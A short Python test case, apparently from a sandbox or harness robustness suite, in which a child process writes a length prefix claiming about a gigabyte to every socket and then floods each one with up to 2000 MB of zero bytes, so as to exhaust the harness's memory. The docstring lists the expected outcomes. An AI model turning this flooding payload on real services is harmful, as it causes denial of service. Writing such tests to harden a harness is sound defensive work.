"""Writes a length of a gigabyte to every socket, and as much behind it: who believes it keeps all of that.

Seen: the harness is disturbed, or has grown by more than 40 MB.
Stopped at: strict, standard.
Works: against a harness whose child says what it came to.
Verdict: killed, wrong, exited, timed_out.
"""
import os


def attack():
    for fd in target.sockets():
        try:
            os.set_blocking(fd, True)
            os.write(fd, (0x3FFFFFFF).to_bytes(4, "big") + bytes(16))
            for _ in range(2000):
                os.write(fd, bytes(1 << 20))
        except OSError:
            continue
    os._exit(0)
